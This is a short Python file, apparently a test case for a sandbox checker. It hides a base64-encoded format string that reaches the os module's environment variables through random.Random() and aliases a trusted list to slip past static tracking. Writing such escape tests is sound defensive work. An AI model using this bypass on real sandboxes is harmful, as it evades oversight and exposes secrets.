# family: format
# Escape: a loop variable iterating over a tuple display `(PATTERNS,)` aliases the list without the checker
# noticing (only `for x in NAME` is tracked); `alias[0] = ...` rewrites the trusted literal table. The first
# pattern becomes "{0.__init__.__globals__[_os].environ}" (base64) and is formatted with random.Random().
import base64
import random

PATTERNS = ["{0}", "<{0}>"]


def tool() -> str:
    for alias in (PATTERNS,):
        alias[0] = base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode()
    return PATTERNS[0].format(random.Random())
